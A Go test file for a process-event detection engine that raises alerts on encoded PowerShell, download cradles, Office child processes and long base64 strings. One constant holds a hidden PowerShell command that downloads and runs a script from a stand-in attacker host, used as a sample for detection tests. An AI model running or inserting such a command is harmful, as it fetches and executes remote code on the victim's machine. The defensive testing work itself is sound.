package detect

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"sentinel/core"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest"
	"go.uber.org/zap/zaptest/observer"
)

const (
	winwordPath  = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	explorerPath = `C:\Windows\explorer.exe`
	cradleCmd    = `powershell.exe -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://evil-c2.io/p.ps1')"`
)

func newTestEngine(t *testing.T, bufferSize int) (*Engine, *memoryRecorder, *countingPublisher) {
	t.Helper()
	rules, err := DefaultRuleSet(RuleSetOptions{})
	require.NoError(t, err)
	recorder := newMemoryRecorder()
	pub := &countingPublisher{}
	engine, err := NewEngine(rules, recorder, pub, EngineConfig{BufferSize: bufferSize, Source: "test"}, zaptest.NewLogger(t).Sugar())
	require.NoError(t, err)
	return engine, recorder, pub
}

func processEvent(id, cmd, parent string) *core.ProcessEvent {
	return &core.ProcessEvent{
		ID:              id,
		Timestamp:       time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC),
		Image:           `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		CommandLine:     cmd,
		ParentImage:     parent,
		ProcessID:       4242,
		ParentProcessID: 1337,
		User:            `CORP\J.Harkness`,
		Host:            "SEC-WKSTN-01",
	}
}

func ruleNames(alerts []core.Alert) []string {
	names := make([]string, 0, len(alerts))
	for _, a := range alerts {
		names = append(names, a.RuleTriggered)
	}
	return names
}

func TestEngine_RuleCorrectness(t *testing.T) {
	tests := []struct {
		name   string
		cmd    string
		parent string
		want   []core.Alert
	}{
		{
			name:   "encoded command",
			cmd:    "powershell.exe -EncodedCommand SUVYIChOZXctT2JqZWN0...",
			parent: explorerPath,
			want: []core.Alert{
				{RuleTriggered: "Encoded PowerShell Command", Severity: core.SeverityCritical, Confidence: 95},
			},
		},
		{
			name:   "benign echo",
			cmd:    `cmd.exe /c echo "Safe check"`,
			parent: "explorer.exe",
			want:   nil,
		},
		{
			name:   "stealth cradle from office",
			cmd:    cradleCmd,
			parent: winwordPath,
			want: []core.Alert{
				{RuleTriggered: "Stealth PowerShell Execution", Severity: core.SeverityHigh, Confidence: 85},
				{RuleTriggered: "Suspicious Download Cradle", Severity: core.SeverityCritical, Confidence: 90},
				{RuleTriggered: "Suspicious Office Child Process", Severity: core.SeverityHigh, Confidence: 80},
			},
		},
		{
			name:   "long base64 heuristic alone",
			cmd:    "certutil.exe " + strings.Repeat("QUJD", 30),
			parent: explorerPath,
			want: []core.Alert{
				{RuleTriggered: "Heuristic: Long Base64 Block", Severity: core.SeverityMedium, Confidence: 70},
			},
		},
		{
			name:   "heuristic suppressed by earlier rule",
			cmd:    "powershell.exe -enc " + strings.Repeat("QUJD", 40),
			parent: explorerPath,
			want: []core.Alert{
				{RuleTriggered: "Encoded PowerShell Command", Severity: core.SeverityCritical, Confidence: 95},
			},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			engine, recorder, _ := newTestEngine(t, 0)
			event := processEvent("evt-1", tt.cmd, tt.parent)

			require.NoError(t, engine.Ingest(context.Background(), event))

			got := recorder.all()
			require.Len(t, got, len(tt.want), "rules fired: %v", ruleNames(got))
			for i, want := range tt.want {
				assert.Equal(t, want.RuleTriggered, got[i].RuleTriggered)
				assert.Equal(t, want.Severity, got[i].Severity)
				assert.Equal(t, want.Confidence, got[i].Confidence)
				assert.Equal(t, core.AlertStatusNew, got[i].Status)
				assert.Equal(t, "evt-1", got[i].EventID)
				assert.Equal(t, "powershell.exe", got[i].ProcessName)
				assert.Equal(t, "SEC-WKSTN-01", got[i].Hostname)
				assert.Equal(t, event.Timestamp, got[i].Timestamp)
			}
		})
	}
}

func TestEngine_DedupIsIdempotent(t *testing.T) {
	engine, recorder, pub := newTestEngine(t, 0)
	event := processEvent("evt-dup", cradleCmd, winwordPath)

	require.NoError(t, engine.Ingest(context.Background(), event))
	require.NoError(t, engine.Ingest(context.Background(), event))

	assert.Len(t, recorder.all(), 3)
	assert.Equal(t, 2, engine.BufferSize())
	assert.Equal(t, 2, pub.count(), "one notification per ingest")
}

func TestEngine_HeuristicSkippedWhenEventAlreadyAlerted(t *testing.T) {
	engine, recorder, _ := newTestEngine(t, 0)
	ctx := context.Background()

	_, err := recorder.RecordAlerts(ctx, []core.Alert{{EventID: "evt-b64", RuleTriggered: "Manual Triage"}})
	require.NoError(t, err)

	require.NoError(t, engine.Ingest(ctx, processEvent("evt-b64", "x "+strings.Repeat("QUJD", 30), explorerPath)))
	assert.Equal(t, []string{"Manual Triage"}, ruleNames(recorder.all()))
}

func TestEngine_NotifiesOncePerIngest(t *testing.T) {
	engine, _, pub := newTestEngine(t, 0)

	require.NoError(t, engine.Ingest(context.Background(), processEvent("e0", `cmd.exe /c echo "Safe check"`, explorerPath)))
	assert.Equal(t, 1, pub.count())

	require.NoError(t, engine.Ingest(context.Background(), processEvent("e1", cradleCmd, winwordPath)))
	assert.Equal(t, 2, pub.count())
}

func TestEngine_BoundedBuffer(t *testing.T) {
	engine, recorder, _ := newTestEngine(t, DefaultBufferSize)
	ctx := context.Background()

	require.NoError(t, engine.Ingest(ctx, processEvent("evt-000", cradleCmd, winwordPath)))
	for i := 1; i <= DefaultBufferSize; i++ {
		require.NoError(t, engine.Ingest(ctx, processEvent(fmt.Sprintf("evt-%03d", i), `cmd.exe /c echo "Safe check"`, explorerPath)))
	}

	events := engine.ListEvents()
	require.Len(t, events, DefaultBufferSize)
	assert.Equal(t, fmt.Sprintf("evt-%03d", DefaultBufferSize), events[0].ID, "most recent first")
	assert.Equal(t, "evt-001", events[len(events)-1].ID, "oldest surviving event")
	for _, ev := range events {
		assert.NotEqual(t, "evt-000", ev.ID)
	}

	alerts := recorder.all()
	assert.Len(t, alerts, 3, "alerts survive eviction of their event")
	for _, a := range alerts {
		assert.Equal(t, "evt-000", a.EventID)
	}
}

func TestEngine_ListEventsIsSnapshot(t *testing.T) {
	engine, _, _ := newTestEngine(t, 5)
	require.NoError(t, engine.Ingest(context.Background(), processEvent("a", "cmd.exe", explorerPath)))
	require.NoError(t, engine.Ingest(context.Background(), processEvent("b", "cmd.exe", explorerPath)))

	events := engine.ListEvents()
	require.Equal(t, []string{"b", "a"}, []string{events[0].ID, events[1].ID})

	events[0].ID = "mutated"
	assert.Equal(t, "b", engine.ListEvents()[0].ID)
	assert.Equal(t, 5, engine.Capacity())
}

func TestEngine_ValidationError(t *testing.T) {
	engine, _, pub := newTestEngine(t, 0)

	err := engine.Ingest(context.Background(), &core.ProcessEvent{ID: "x", Image: "a.exe"})
	require.Error(t, err)
	assert.ErrorIs(t, err, core.ErrValidation)

	err = engine.Ingest(context.Background(), nil)
	assert.ErrorIs(t, err, core.ErrValidation)

	assert.Equal(t, 0, engine.BufferSize())
	assert.Equal(t, 0, pub.count())
}

func TestEngine_PersistenceFailureIsAtomic(t *testing.T) {
	engine, recorder, pub := newTestEngine(t, 0)
	recorder.failWith(core.NewPersistenceError("alerts", "save", errors.New("disk full")))

	err := engine.Ingest(context.Background(), processEvent("evt-fail", cradleCmd, winwordPath))
	require.Error(t, err)
	assert.ErrorIs(t, err, core.ErrPersistence)

	var perr *core.PersistenceError
	require.ErrorAs(t, err, &perr)
	assert.Equal(t, "alerts", perr.Collection)

	assert.Equal(t, 0, engine.BufferSize())
	assert.Equal(t, 0, pub.count())
	assert.Empty(t, recorder.all())

	// benign events never touch the store
	require.NoError(t, engine.Ingest(context.Background(), processEvent("evt-ok", "cmd.exe", explorerPath)))
	assert.Equal(t, 1, engine.BufferSize())
}

func TestEngine_CancelledContext(t *testing.T) {
	engine, _, pub := newTestEngine(t, 0)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	err := engine.Ingest(ctx, processEvent("evt", "cmd.exe", explorerPath))
	assert.ErrorIs(t, err, context.Canceled)
	assert.Equal(t, 0, pub.count())
}

func TestEngine_FaultyMatchersAreContained(t *testing.T) {
	obsCore, logs := observer.New(zap.WarnLevel)
	logger := zap.New(obsCore).Sugar()

	always := MatcherFunc(func(*core.ProcessEvent) (bool, error) { return true, nil })
	rules := NewRuleSetFromRules(
		Rule{Name: "Erroring", Severity: core.SeverityLow, Confidence: 10, Matcher: MatcherFunc(func(*core.ProcessEvent) (bool, error) {
			return true, ErrRegexTimeout
		})},
		Rule{Name: "Panicking", Severity: core.SeverityLow, Confidence: 10, Matcher: MatcherFunc(func(*core.ProcessEvent) (bool, error) {
			panic("matcher bug")
		})},
		Rule{Name: "Healthy", Severity: core.SeverityInfo, Confidence: 50, Matcher: always},
	)

	recorder := newMemoryRecorder()
	pub := &countingPublisher{}
	engine, err := NewEngine(rules, recorder, pub, EngineConfig{}, logger)
	require.NoError(t, err)

	require.NoError(t, engine.Ingest(context.Background(), processEvent("evt", "anything", explorerPath)))

	assert.Equal(t, []string{"Healthy"}, ruleNames(recorder.all()))
	assert.Equal(t, 1, pub.count())
	assert.Equal(t, 1, logs.FilterMessage("Rule evaluation failed").Len())
	assert.Equal(t, 1, logs.FilterMessage("Panic recovered").Len())
}

func TestEngine_EmptyCommandLineNeverMatches(t *testing.T) {
	matcher, err := NewRegexMatcher(FieldCommandLine, ".*", time.Second)
	require.NoError(t, err)

	matched, err := matcher.Match(&core.ProcessEvent{ID: "e", Image: "x.exe"})
	require.NoError(t, err)
	assert.False(t, matched)
}

func TestEngine_ConcurrentIngest(t *testing.T) {
	engine, recorder, pub := newTestEngine(t, 50)

	var wg sync.WaitGroup
	for i := 0; i < 20; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			assert.NoError(t, engine.Ingest(context.Background(), processEvent(fmt.Sprintf("evt-%d", i), cradleCmd, winwordPath)))
		}(i)
	}
	wg.Wait()

	assert.Equal(t, 20, engine.BufferSize())
	assert.Len(t, recorder.all(), 60)
	assert.Equal(t, 20, pub.count())
}

func TestNewEngine_RequiresCollaborators(t *testing.T) {
	rules, err := DefaultRuleSet(RuleSetOptions{})
	require.NoError(t, err)

	_, err = NewEngine(nil, newMemoryRecorder(), nil, EngineConfig{}, nil)
	assert.Error(t, err)
	_, err = NewEngine(rules, nil, nil, EngineConfig{}, nil)
	assert.Error(t, err)

	engine, err := NewEngine(rules, newMemoryRecorder(), nil, EngineConfig{}, nil)
	require.NoError(t, err)
	assert.Equal(t, DefaultBufferSize, engine.Capacity())
	assert.Len(t, engine.Rules(), 5)
	require.NoError(t, engine.Ingest(context.Background(), processEvent("e", "cmd.exe", explorerPath)))
}
